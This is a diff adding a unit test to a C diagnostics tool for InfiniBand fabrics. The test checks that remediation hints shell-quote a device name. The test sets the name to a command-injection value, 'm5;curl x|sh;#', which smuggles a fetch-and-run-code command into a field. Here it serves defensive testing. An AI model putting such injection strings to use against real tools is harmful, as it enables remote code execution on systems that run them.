@@ -604,6 +604,19 @@ static void test_counter_implausible(void **state)
 	HAS(f->evidence, "/sys/class/infiniband/mlx5_3/ports/1/counters/: symbol_error=\"-1\" (16-bit, 0..65535)");
 	HAS(f->hint, "perfquery -x -C mlx5_3 -P 1");
 	model_free(&m);
+
+	/* A hostile device name goes into the suggested commands quoted. */
+	build(&m, false);
+	c = &port(&m, 3)->errors[0];
+	c->value = (fab_int){ 0, false };
+	c->implausible = true;
+	fab_strlcpy(c->raw, "-1", sizeof(c->raw));
+	fab_strlcpy(m.nics[3].name, "m5;curl x|sh;#", sizeof(m.nics[3].name));
+	findings_run(&m);
+	f = only(&m, "links.counter-implausible", "m5;curl x|sh;#/1");
+	HAS(f->hint, "perfquery -x -C 'm5;curl x|sh;#' -P 1");
+	HAS(f->hint, "cat '/sys/class/infiniband/m5;curl x|sh;#/ports/1'/counters/*");
+	model_free(&m);
 }
 
 static void test_pfc(void **state)
